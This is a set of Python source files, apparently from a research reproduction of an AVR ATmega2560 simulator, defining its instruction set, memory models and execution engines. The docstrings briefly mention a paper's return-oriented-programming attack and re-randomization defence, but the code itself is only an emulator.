``lds``/``sts`` store absolute targets: word addresses for jumps, data-space
byte addresses for loads/stores.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum, unique
from typing import Optional


@unique
class Mnemonic(Enum):
    """Every instruction the simulator can decode and execute."""

    # no-operation / misc
    NOP = "nop"
    WDR = "wdr"
    SLEEP = "sleep"
    BREAK = "break"

    # register moves
    MOV = "mov"
    MOVW = "movw"
    LDI = "ldi"

    # multiply (result in r1:r0)
    MUL = "mul"
    MULS = "muls"
    MULSU = "mulsu"

    # arithmetic / logic (register-register)
    ADD = "add"
    ADC = "adc"
    SUB = "sub"
    SBC = "sbc"
    AND = "and"
    OR = "or"
    EOR = "eor"

    # arithmetic / logic (immediate)
    SUBI = "subi"
    SBCI = "sbci"
    ANDI = "andi"
    ORI = "ori"

    # single-register ops
    COM = "com"
    NEG = "neg"
    INC = "inc"
    DEC = "dec"
    SWAP = "swap"
    LSR = "lsr"
    ASR = "asr"
    ROR = "ror"

    # word immediate arithmetic on pairs r24/r26/r28/r30
    ADIW = "adiw"
    SBIW = "sbiw"

    # compares
    CP = "cp"
    CPC = "cpc"
    CPI = "cpi"
    CPSE = "cpse"

    # conditional branches (b = SREG bit, k = word displacement)
    BRBS = "brbs"
    BRBC = "brbc"

    # unconditional control flow
    RJMP = "rjmp"
    RCALL = "rcall"
    JMP = "jmp"
    CALL = "call"
    IJMP = "ijmp"
    ICALL = "icall"
    RET = "ret"
    RETI = "reti"

    # stack
    PUSH = "push"
    POP = "pop"

    # I/O
    IN = "in"
    OUT = "out"
    SBI = "sbi"
    CBI = "cbi"
    SBIC = "sbic"
    SBIS = "sbis"

    # data space loads/stores
    LDS = "lds"
    STS = "sts"
    LD_X = "ld_x"
    LD_X_INC = "ld_x+"
    LD_X_DEC = "ld_-x"
    LD_Y_INC = "ld_y+"
    LD_Y_DEC = "ld_-y"
    LD_Z_INC = "ld_z+"
    LD_Z_DEC = "ld_-z"
    LDD_Y = "ldd_y"
    LDD_Z = "ldd_z"
    ST_X = "st_x"
    ST_X_INC = "st_x+"
    ST_X_DEC = "st_-x"
    ST_Y_INC = "st_y+"
    ST_Y_DEC = "st_-y"
    ST_Z_INC = "st_z+"
    ST_Z_DEC = "st_-z"
    STD_Y = "std_y"
    STD_Z = "std_z"

    # program memory load
    LPM_R0 = "lpm_r0"
    LPM = "lpm"
    LPM_INC = "lpm_z+"

    # SREG bit set/clear (b = bit index); sei/cli are aliases
    BSET = "bset"
    BCLR = "bclr"

    # register bit transfer / skip
    BST = "bst"
    BLD = "bld"
    SBRC = "sbrc"
    SBRS = "sbrs"


# Mnemonics whose encodings occupy two 16-bit words.
TWO_WORD = frozenset({Mnemonic.JMP, Mnemonic.CALL, Mnemonic.LDS, Mnemonic.STS})

# Control-transfer instructions a gadget scan must treat as chain breakers.
CONTROL_FLOW = frozenset(
    {
        Mnemonic.RJMP,
        Mnemonic.RCALL,
        Mnemonic.JMP,
        Mnemonic.CALL,
        Mnemonic.IJMP,
        Mnemonic.ICALL,
        Mnemonic.RET,
        Mnemonic.RETI,
        Mnemonic.BRBS,
        Mnemonic.BRBC,
        Mnemonic.CPSE,
        Mnemonic.SBIC,
        Mnemonic.SBIS,
        Mnemonic.SBRC,
        Mnemonic.SBRS,
    }
)


@dataclass(frozen=True)
class Instruction:
    """One decoded (or to-be-encoded) AVR instruction."""

    mnemonic: Mnemonic
    rd: Optional[int] = None
    rr: Optional[int] = None
    k: Optional[int] = None
    q: Optional[int] = None
    a: Optional[int] = None
    b: Optional[int] = None

    @property
    def size_words(self) -> int:
        """Encoded size in 16-bit words (1 or 2)."""
        return 2 if self.mnemonic in TWO_WORD else 1

    @property
    def size_bytes(self) -> int:
        return self.size_words * 2

    def __str__(self) -> str:
        parts = [self.mnemonic.value]
        for name in ("rd", "rr", "k", "q", "a", "b"):
            value = getattr(self, name)
            if value is not None:
                parts.append(f"{name}={value}")
        return " ".join(parts)


def signed(value: int, bits: int) -> int:
    """Interpret ``value`` as a two's-complement signed integer of ``bits``."""
    mask = (1 << bits) - 1
    value &= mask
    if value & (1 << (bits - 1)):
        value -= 1 << bits
    return value


def unsigned(value: int, bits: int) -> int:
    """Mask ``value`` into an unsigned field of ``bits`` width."""
    return value & ((1 << bits) - 1)
