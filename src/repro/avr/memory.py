"""Memories of the simulated ATmega2560 (paper Fig. 1).

Three physically separate memories, per the Harvard architecture:

* **flash** — 256 KB of program memory, addressed as 128 K two-byte words.
  The only memory instructions execute from.
* **data space** — one linear byte space containing the 32 general registers
  (0x0000..0x001F), the 64 core I/O registers (0x0020..0x005F), extended I/O
  (0x0060..0x01FF) and 8 KB of SRAM (0x0200..0x21FF).  The stack, globals and
  heap live here; nothing here is executable.
* **EEPROM** — 4 KB persistent configuration storage outside both spaces.

The single linear data space with memory-mapped registers is what makes the
paper's attack work: gadgets change the stack pointer by storing to data
addresses 0x5D/0x5E, and overwrite "registers" with plain stores.
"""

from __future__ import annotations

from typing import Callable, Dict, Optional

from ..errors import MemoryAccessError
from .iospace import IO_TO_DATA_OFFSET, SREG_DATA
from .sreg import StatusRegister

FLASH_SIZE = 256 * 1024  # bytes
FLASH_WORDS = FLASH_SIZE // 2

REGISTER_FILE_BASE = 0x0000
REGISTER_FILE_SIZE = 32
IO_BASE = 0x0020
EXT_IO_BASE = 0x0060
SRAM_BASE = 0x0200
SRAM_SIZE = 8 * 1024
RAMEND = SRAM_BASE + SRAM_SIZE - 1  # 0x21FF
DATA_SPACE_SIZE = RAMEND + 1

EEPROM_SIZE = 4 * 1024

# Callback signature for I/O hooks: (data_address, value_or_None) -> int|None.
ReadHook = Callable[[int], int]
WriteHook = Callable[[int, int], None]


class FlashMemory:
    """Program memory: byte-addressed storage executed as 16-bit words.

    Every mutation path (bulk :meth:`load`, :meth:`erase`, bootloader
    :meth:`write_page`) bumps :attr:`generation`.  The predecoded execution
    engine keys its decode cache on this counter, so any reprogramming —
    ISP streaming, a MAVR re-randomization reflash, a self-write — makes
    previously cached decodes unreachable.  Nothing else may mutate
    ``_bytes``; new write paths must go through these methods (or call
    :meth:`invalidate` themselves) to preserve the invariant.
    """

    def __init__(self, size: int = FLASH_SIZE) -> None:
        self.size = size
        self._bytes = bytearray(b"\xff" * size)  # erased flash reads 0xFF
        self.generation = 0

    def invalidate(self) -> None:
        """Mark the contents as changed (decode caches must be dropped)."""
        self.generation += 1

    def load(self, image: bytes, offset: int = 0) -> None:
        """Program ``image`` starting at byte ``offset``."""
        if offset < 0 or offset + len(image) > self.size:
            raise MemoryAccessError(
                f"flash image of {len(image)} bytes does not fit at offset {offset}"
            )
        self._bytes[offset : offset + len(image)] = image
        self.invalidate()

    def erase(self) -> None:
        """Return the whole array to the erased state."""
        self._bytes[:] = b"\xff" * self.size
        self.invalidate()

    def erase_page(self, address: int, length: int) -> None:
        """Page-granular erase (bootloader SPM page-erase semantics).

        The differential reflash path erases only the pages it is about
        to rewrite, leaving the rest of the array — and its wear —
        untouched.
        """
        if address < 0 or length < 0 or address + length > self.size:
            raise MemoryAccessError(
                f"page erase out of range: 0x{address:06x}+{length}"
            )
        self._bytes[address : address + length] = b"\xff" * length
        self.invalidate()

    def read_byte(self, address: int) -> int:
        if not 0 <= address < self.size:
            raise MemoryAccessError(f"flash byte read out of range: 0x{address:06x}")
        return self._bytes[address]

    def read_word(self, word_address: int) -> int:
        """Fetch the little-endian 16-bit word at ``word_address``."""
        byte_addr = word_address * 2
        if not 0 <= byte_addr + 1 < self.size:
            raise MemoryAccessError(
                f"flash word read out of range: word 0x{word_address:05x}"
            )
        return self._bytes[byte_addr] | (self._bytes[byte_addr + 1] << 8)

    def write_page(self, address: int, data: bytes) -> None:
        """Bootloader-style page write (no erase modelling beyond overwrite)."""
        self.load(data, address)

    def write_word(self, word_address: int, value: int) -> None:
        """SPM-style single-word self-write (little-endian)."""
        byte_addr = word_address * 2
        if not 0 <= byte_addr + 1 < self.size:
            raise MemoryAccessError(
                f"flash word write out of range: word 0x{word_address:05x}"
            )
        self._bytes[byte_addr] = value & 0xFF
        self._bytes[byte_addr + 1] = (value >> 8) & 0xFF
        self.invalidate()

    def dump(self, start: int = 0, length: Optional[int] = None) -> bytes:
        if length is None:
            length = self.size - start
        return bytes(self._bytes[start : start + length])


class Eeprom:
    """Persistent configuration memory, byte addressed, outside data space."""

    def __init__(self, size: int = EEPROM_SIZE) -> None:
        self.size = size
        self._bytes = bytearray(b"\xff" * size)

    def read(self, address: int) -> int:
        if not 0 <= address < self.size:
            raise MemoryAccessError(f"EEPROM read out of range: 0x{address:04x}")
        return self._bytes[address]

    def write(self, address: int, value: int) -> None:
        if not 0 <= address < self.size:
            raise MemoryAccessError(f"EEPROM write out of range: 0x{address:04x}")
        self._bytes[address] = value & 0xFF


class DataSpace:
    """The single linear data space, registers and I/O included.

    The 32 general registers live at the bottom of this space, so register
    reads/writes and memory loads/stores view the same bytes — the property
    the paper's ``write_mem_gadget`` relies on.  SREG (data address 0x5F) is
    backed by a :class:`StatusRegister` so flag semantics stay exact.
    """

    def __init__(self, sreg: StatusRegister) -> None:
        self._bytes = bytearray(DATA_SPACE_SIZE)
        self.sreg = sreg
        self._read_hooks: Dict[int, ReadHook] = {}
        self._write_hooks: Dict[int, WriteHook] = {}

    # -- hooks ---------------------------------------------------------

    def add_read_hook(self, data_address: int, hook: ReadHook) -> None:
        """Route reads of ``data_address`` through ``hook`` (peripherals)."""
        self._read_hooks[data_address] = hook

    def add_write_hook(self, data_address: int, hook: WriteHook) -> None:
        """Observe/override writes to ``data_address`` (peripherals).

        A hook returning ``None`` observes only; returning an int replaces
        the stored byte (how self-clearing strobe bits are modelled).
        """
        self._write_hooks[data_address] = hook

    # -- registers -----------------------------------------------------

    def read_reg(self, index: int) -> int:
        """Read general register r0..r31 (memory mapped)."""
        if not 0 <= index < REGISTER_FILE_SIZE:
            raise MemoryAccessError(f"register index out of range: {index}")
        return self._bytes[index]

    def write_reg(self, index: int, value: int) -> None:
        if not 0 <= index < REGISTER_FILE_SIZE:
            raise MemoryAccessError(f"register index out of range: {index}")
        self._bytes[index] = value & 0xFF

    def read_reg_pair(self, low_index: int) -> int:
        """Read a 16-bit register pair (e.g. 28 for Y, 30 for Z)."""
        return self.read_reg(low_index) | (self.read_reg(low_index + 1) << 8)

    def write_reg_pair(self, low_index: int, value: int) -> None:
        self.write_reg(low_index, value & 0xFF)
        self.write_reg(low_index + 1, (value >> 8) & 0xFF)

    # -- raw byte access (loads/stores, stack) ---------------------------

    def read(self, address: int) -> int:
        if not 0 <= address < DATA_SPACE_SIZE:
            raise MemoryAccessError(f"data read out of range: 0x{address:05x}")
        if address == SREG_DATA:
            return self.sreg.byte
        hook = self._read_hooks.get(address)
        if hook is not None:
            return hook(address) & 0xFF
        return self._bytes[address]

    def write(self, address: int, value: int) -> None:
        if not 0 <= address < DATA_SPACE_SIZE:
            raise MemoryAccessError(f"data write out of range: 0x{address:05x}")
        value &= 0xFF
        if address == SREG_DATA:
            self.sreg.byte = value
            return
        hook = self._write_hooks.get(address)
        if hook is not None:
            override = hook(address, value)
            if override is not None:
                value = override & 0xFF
        self._bytes[address] = value

    def read_io(self, io_address: int) -> int:
        """``in`` semantics: read I/O register by I/O address."""
        return self.read(io_address + IO_TO_DATA_OFFSET)

    def write_io(self, io_address: int, value: int) -> None:
        """``out`` semantics: write I/O register by I/O address."""
        self.write(io_address + IO_TO_DATA_OFFSET, value)

    # -- stack pointer ---------------------------------------------------

    @property
    def sp(self) -> int:
        """16-bit stack pointer held in SPL/SPH (data 0x5D/0x5E)."""
        return self._bytes[0x5D] | (self._bytes[0x5E] << 8)

    @sp.setter
    def sp(self, value: int) -> None:
        self._bytes[0x5D] = value & 0xFF
        self._bytes[0x5E] = (value >> 8) & 0xFF

    # -- convenience -----------------------------------------------------

    def read_block(self, address: int, length: int) -> bytes:
        """Read ``length`` raw bytes (no hooks), for inspection/snapshots."""
        if address < 0 or address + length > DATA_SPACE_SIZE:
            raise MemoryAccessError(
                f"block read out of range: 0x{address:05x}+{length}"
            )
        return bytes(self._bytes[address : address + length])

    def write_block(self, address: int, data: bytes) -> None:
        """Write raw bytes (no hooks), for test setup."""
        if address < 0 or address + len(data) > DATA_SPACE_SIZE:
            raise MemoryAccessError(
                f"block write out of range: 0x{address:05x}+{len(data)}"
            )
        self._bytes[address : address + len(data)] = data
