"""Execution engines: how the core turns flash words into state changes.

Four engines share one set of instruction semantics (the dispatch table
``HANDLERS``, one handler per :class:`~repro.avr.insn.Mnemonic`):

* :class:`InterpreterEngine` — the reference engine: decode the word at PC
  on **every** step, dispatch, account cycles.  Slow but has no cached
  state at all, which makes it the ground truth for differential testing.
* :class:`PredecodedEngine` — the fast engine: each flash word is decoded
  **once per flash generation** into a ``(handler, insn, size, cycles)``
  entry; revisits index straight into the entry table, and ``run()`` is a
  tight loop over cached entries.
* :class:`~repro.avr.blocks.BlockEngine` — the superblock engine: fuses
  consecutive predecoded entries into straight-line blocks and hoists the
  per-instruction retire preamble to block boundaries (see
  :mod:`repro.avr.blocks` for the fusion rules and latency model).
* :class:`~repro.avr.compiled.CompiledEngine` — the compiled superblock
  engine: ``exec``-generates one specialized Python callable per
  superblock (operands folded, registers/flags in locals, dead flag
  computations elided — see :mod:`repro.avr.compiled`), with the same
  invalidation and degrade rules as the blocks engine.

All engines retire instructions through exactly the same sequence as
:meth:`AvrCpu.step`: pending-interrupt service, code-limit check, execute,
cycle accounting, trace hooks.  The shared prefix of that sequence lives
in :func:`retire_preamble` so the contract exists in one place; the
differential harness in :mod:`repro.avr.trace` exists to keep the claim
honest.

Correctness invariant (see docs/PERFORMANCE.md): a cache entry is only
valid for the flash generation it was decoded from.
:class:`~repro.avr.memory.FlashMemory` bumps its ``generation`` counter on
every write path (ISP programming, MAVR reflash, SPM-style self-writes),
and the predecoded engine compares generations *before every fetch*, so a
re-randomized image can never execute stale decodes.

Cache entries are indexed by word address and each is decoded
independently starting at that address.  This preserves the interpreter's
behaviour for *misaligned* execution — jumping into the second word of a
``call`` re-decodes that word as its own instruction, exactly the
property the ROP gadget finder exploits.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Callable, Dict, List, Optional, Tuple

from ..errors import CpuFault, DecodeError, IllegalExecutionError, MemoryAccessError
from . import alu
from .decoder import decode, needs_second_word
from .insn import Instruction, Mnemonic
from .iospace import SREG_IO

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from .cpu import AvrCpu

Handler = Callable[["AvrCpu", Instruction], None]
# (handler, decoded instruction, size in words, base cycle cost)
Entry = Tuple[Handler, Instruction, int, int]


class Halt(Exception):
    """Raised internally when the core executes ``break`` (clean stop)."""


# -- shared retire preamble ----------------------------------------------


def _out_of_image_error(byte_addr: int, limit: int) -> IllegalExecutionError:
    return IllegalExecutionError(
        f"PC 0x{byte_addr:05x} is beyond the programmed image "
        f"(limit 0x{limit:05x})"
    )


def retire_preamble(cpu: "AvrCpu") -> int:
    """The common prefix of every retire: service interrupts, check limit.

    Returns the (possibly interrupt-redirected) PC to fetch from.  This is
    the single definition of the preamble shared by :meth:`AvrCpu.step`
    and every engine ``run()`` loop — the per-instruction engines pay it
    once per instruction, the block engine once per superblock.
    """
    if cpu.pending_interrupts and cpu.sreg.i:
        cpu._service_interrupt()
    pc = cpu.pc
    limit = cpu.code_limit
    if limit is not None and pc * 2 >= limit:
        raise _out_of_image_error(pc * 2, limit)
    return pc


# -- cycle model ---------------------------------------------------------

# Approximate cycle costs (datasheet values for the common cases).
_CYCLES = {
    Mnemonic.RJMP: 2,
    Mnemonic.RCALL: 4,
    Mnemonic.JMP: 3,
    Mnemonic.CALL: 5,
    Mnemonic.IJMP: 2,
    Mnemonic.ICALL: 4,
    Mnemonic.RET: 5,
    Mnemonic.RETI: 5,
    Mnemonic.PUSH: 2,
    Mnemonic.POP: 2,
    Mnemonic.LDS: 2,
    Mnemonic.STS: 2,
    Mnemonic.ADIW: 2,
    Mnemonic.SBIW: 2,
    Mnemonic.MOVW: 1,
    Mnemonic.LPM_R0: 3,
    Mnemonic.LPM: 3,
    Mnemonic.LPM_INC: 3,
    Mnemonic.MUL: 2,
    Mnemonic.MULS: 2,
    Mnemonic.MULSU: 2,
}
_LOAD_STORE_CYCLES = 2


def _base_cycles(mnemonic: Mnemonic) -> int:
    cost = _CYCLES.get(mnemonic)
    if cost is not None:
        return cost
    if mnemonic.value.startswith(("ld", "st")):
        return _LOAD_STORE_CYCLES
    return 1


# Fully materialized mnemonic -> base cycle cost (taken branches and skips
# add their extra cycle inside the handler, as the hardware does).
CYCLES_BY_MNEMONIC: Dict[Mnemonic, int] = {m: _base_cycles(m) for m in Mnemonic}


# -- instruction semantics (one handler per mnemonic) --------------------


def _nop(cpu: "AvrCpu", insn: Instruction) -> None:
    return None


def _break(cpu: "AvrCpu", insn: Instruction) -> None:
    raise Halt()


def _mul(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    cpu._multiply(d.read_reg(insn.rd), d.read_reg(insn.rr),
                  signed_d=False, signed_r=False)


def _muls(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    cpu._multiply(d.read_reg(insn.rd), d.read_reg(insn.rr),
                  signed_d=True, signed_r=True)


def _mulsu(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    cpu._multiply(d.read_reg(insn.rd), d.read_reg(insn.rr),
                  signed_d=True, signed_r=False)


def _mov(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, d.read_reg(insn.rr))


def _movw(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg_pair(insn.rd, d.read_reg_pair(insn.rr))


def _ldi(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.data.write_reg(insn.rd, insn.k)


def _add(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.add(cpu.sreg, d.read_reg(insn.rd), d.read_reg(insn.rr)))


def _adc(cpu: "AvrCpu", insn: Instruction) -> None:
    d, s = cpu.data, cpu.sreg
    d.write_reg(insn.rd, alu.add(s, d.read_reg(insn.rd), d.read_reg(insn.rr), s.c))


def _sub(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.sub(cpu.sreg, d.read_reg(insn.rd), d.read_reg(insn.rr)))


def _sbc(cpu: "AvrCpu", insn: Instruction) -> None:
    d, s = cpu.data, cpu.sreg
    d.write_reg(
        insn.rd,
        alu.sub(s, d.read_reg(insn.rd), d.read_reg(insn.rr), s.c, keep_z=True),
    )


def _subi(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.sub(cpu.sreg, d.read_reg(insn.rd), insn.k))


def _sbci(cpu: "AvrCpu", insn: Instruction) -> None:
    d, s = cpu.data, cpu.sreg
    d.write_reg(insn.rd, alu.sub(s, d.read_reg(insn.rd), insn.k, s.c, keep_z=True))


def _and(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.logic(cpu.sreg, d.read_reg(insn.rd) & d.read_reg(insn.rr)))


def _andi(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.logic(cpu.sreg, d.read_reg(insn.rd) & insn.k))


def _or(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.logic(cpu.sreg, d.read_reg(insn.rd) | d.read_reg(insn.rr)))


def _ori(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.logic(cpu.sreg, d.read_reg(insn.rd) | insn.k))


def _eor(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.logic(cpu.sreg, d.read_reg(insn.rd) ^ d.read_reg(insn.rr)))


def _com(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.com(cpu.sreg, d.read_reg(insn.rd)))


def _neg(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.neg(cpu.sreg, d.read_reg(insn.rd)))


def _inc(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.inc(cpu.sreg, d.read_reg(insn.rd)))


def _dec(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.dec(cpu.sreg, d.read_reg(insn.rd)))


def _swap(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    value = d.read_reg(insn.rd)
    d.write_reg(insn.rd, ((value << 4) | (value >> 4)) & 0xFF)


def _lsr(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.lsr(cpu.sreg, d.read_reg(insn.rd)))


def _asr(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.asr(cpu.sreg, d.read_reg(insn.rd)))


def _ror(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, alu.ror(cpu.sreg, d.read_reg(insn.rd)))


def _adiw(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg_pair(insn.rd, alu.adiw(cpu.sreg, d.read_reg_pair(insn.rd), insn.k))


def _sbiw(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg_pair(insn.rd, alu.sbiw(cpu.sreg, d.read_reg_pair(insn.rd), insn.k))


def _cp(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    alu.sub(cpu.sreg, d.read_reg(insn.rd), d.read_reg(insn.rr))


def _cpc(cpu: "AvrCpu", insn: Instruction) -> None:
    d, s = cpu.data, cpu.sreg
    alu.sub(s, d.read_reg(insn.rd), d.read_reg(insn.rr), s.c, keep_z=True)


def _cpi(cpu: "AvrCpu", insn: Instruction) -> None:
    alu.sub(cpu.sreg, cpu.data.read_reg(insn.rd), insn.k)


def _cpse(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    if d.read_reg(insn.rd) == d.read_reg(insn.rr):
        cpu._skip_next()


def _brbs(cpu: "AvrCpu", insn: Instruction) -> None:
    if cpu.sreg.get_bit(insn.b):
        cpu.pc += insn.k
        cpu.cycles += 1


def _brbc(cpu: "AvrCpu", insn: Instruction) -> None:
    if not cpu.sreg.get_bit(insn.b):
        cpu.pc += insn.k
        cpu.cycles += 1


def _rjmp(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.pc += insn.k


def _rcall(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.push_return_address(cpu.pc)
    cpu.pc += insn.k


def _jmp(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.pc = insn.k


def _call(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.push_return_address(cpu.pc)
    cpu.pc = insn.k


def _ijmp(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.pc = cpu.data.read_reg_pair(30)


def _icall(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.push_return_address(cpu.pc)
    cpu.pc = cpu.data.read_reg_pair(30)


def _ret(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.pc = cpu.pop_return_address()


def _reti(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.pc = cpu.pop_return_address()
    cpu.sreg.i = True


def _push(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.push_byte(cpu.data.read_reg(insn.rr))


def _pop(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.data.write_reg(insn.rd, cpu.pop_byte())


def _in(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, cpu.sreg.byte if insn.a == SREG_IO else d.read_io(insn.a))


def _out(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    value = d.read_reg(insn.rr)
    if insn.a == SREG_IO:
        cpu.sreg.byte = value
    else:
        d.write_io(insn.a, value)


def _sbi(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_io(insn.a, d.read_io(insn.a) | (1 << insn.b))


def _cbi(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_io(insn.a, d.read_io(insn.a) & ~(1 << insn.b))


def _sbic(cpu: "AvrCpu", insn: Instruction) -> None:
    if not cpu.data.read_io(insn.a) & (1 << insn.b):
        cpu._skip_next()


def _sbis(cpu: "AvrCpu", insn: Instruction) -> None:
    if cpu.data.read_io(insn.a) & (1 << insn.b):
        cpu._skip_next()


def _sbrc(cpu: "AvrCpu", insn: Instruction) -> None:
    if not cpu.data.read_reg(insn.rd) & (1 << insn.b):
        cpu._skip_next()


def _sbrs(cpu: "AvrCpu", insn: Instruction) -> None:
    if cpu.data.read_reg(insn.rd) & (1 << insn.b):
        cpu._skip_next()


def _bst(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.sreg.t = bool(cpu.data.read_reg(insn.rd) & (1 << insn.b))


def _bld(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    value = d.read_reg(insn.rd)
    if cpu.sreg.t:
        value |= 1 << insn.b
    else:
        value &= ~(1 << insn.b)
    d.write_reg(insn.rd, value)


def _lds(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, d.read(insn.k))


def _sts(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write(insn.k, d.read_reg(insn.rr))


def _ld(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu._load_store(insn, load=True)


def _st(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu._load_store(insn, load=False)


def _lpm_r0(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(0, cpu.flash.read_byte(d.read_reg_pair(30)))


def _lpm(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    d.write_reg(insn.rd, cpu.flash.read_byte(d.read_reg_pair(30)))


def _lpm_inc(cpu: "AvrCpu", insn: Instruction) -> None:
    d = cpu.data
    z = d.read_reg_pair(30)
    d.write_reg(insn.rd, cpu.flash.read_byte(z))
    d.write_reg_pair(30, (z + 1) & 0xFFFF)


def _bset(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.sreg.set_bit(insn.b, True)


def _bclr(cpu: "AvrCpu", insn: Instruction) -> None:
    cpu.sreg.set_bit(insn.b, False)


HANDLERS: Dict[Mnemonic, Handler] = {
    Mnemonic.NOP: _nop,
    Mnemonic.WDR: _nop,
    Mnemonic.SLEEP: _nop,
    Mnemonic.BREAK: _break,
    Mnemonic.MUL: _mul,
    Mnemonic.MULS: _muls,
    Mnemonic.MULSU: _mulsu,
    Mnemonic.MOV: _mov,
    Mnemonic.MOVW: _movw,
    Mnemonic.LDI: _ldi,
    Mnemonic.ADD: _add,
    Mnemonic.ADC: _adc,
    Mnemonic.SUB: _sub,
    Mnemonic.SBC: _sbc,
    Mnemonic.SUBI: _subi,
    Mnemonic.SBCI: _sbci,
    Mnemonic.AND: _and,
    Mnemonic.ANDI: _andi,
    Mnemonic.OR: _or,
    Mnemonic.ORI: _ori,
    Mnemonic.EOR: _eor,
    Mnemonic.COM: _com,
    Mnemonic.NEG: _neg,
    Mnemonic.INC: _inc,
    Mnemonic.DEC: _dec,
    Mnemonic.SWAP: _swap,
    Mnemonic.LSR: _lsr,
    Mnemonic.ASR: _asr,
    Mnemonic.ROR: _ror,
    Mnemonic.ADIW: _adiw,
    Mnemonic.SBIW: _sbiw,
    Mnemonic.CP: _cp,
    Mnemonic.CPC: _cpc,
    Mnemonic.CPI: _cpi,
    Mnemonic.CPSE: _cpse,
    Mnemonic.BRBS: _brbs,
    Mnemonic.BRBC: _brbc,
    Mnemonic.RJMP: _rjmp,
    Mnemonic.RCALL: _rcall,
    Mnemonic.JMP: _jmp,
    Mnemonic.CALL: _call,
    Mnemonic.IJMP: _ijmp,
    Mnemonic.ICALL: _icall,
    Mnemonic.RET: _ret,
    Mnemonic.RETI: _reti,
    Mnemonic.PUSH: _push,
    Mnemonic.POP: _pop,
    Mnemonic.IN: _in,
    Mnemonic.OUT: _out,
    Mnemonic.SBI: _sbi,
    Mnemonic.CBI: _cbi,
    Mnemonic.SBIC: _sbic,
    Mnemonic.SBIS: _sbis,
    Mnemonic.SBRC: _sbrc,
    Mnemonic.SBRS: _sbrs,
    Mnemonic.BST: _bst,
    Mnemonic.BLD: _bld,
    Mnemonic.LDS: _lds,
    Mnemonic.STS: _sts,
    Mnemonic.LD_X: _ld,
    Mnemonic.LD_X_INC: _ld,
    Mnemonic.LD_X_DEC: _ld,
    Mnemonic.LD_Y_INC: _ld,
    Mnemonic.LD_Y_DEC: _ld,
    Mnemonic.LD_Z_INC: _ld,
    Mnemonic.LD_Z_DEC: _ld,
    Mnemonic.LDD_Y: _ld,
    Mnemonic.LDD_Z: _ld,
    Mnemonic.ST_X: _st,
    Mnemonic.ST_X_INC: _st,
    Mnemonic.ST_X_DEC: _st,
    Mnemonic.ST_Y_INC: _st,
    Mnemonic.ST_Y_DEC: _st,
    Mnemonic.ST_Z_INC: _st,
    Mnemonic.ST_Z_DEC: _st,
    Mnemonic.STD_Y: _st,
    Mnemonic.STD_Z: _st,
    Mnemonic.LPM_R0: _lpm_r0,
    Mnemonic.LPM: _lpm,
    Mnemonic.LPM_INC: _lpm_inc,
    Mnemonic.BSET: _bset,
    Mnemonic.BCLR: _bclr,
}

# Every decodable mnemonic must dispatch: a decoder/table drift would
# otherwise surface as a confusing KeyError mid-flight.
_missing = [m for m in Mnemonic if m not in HANDLERS]
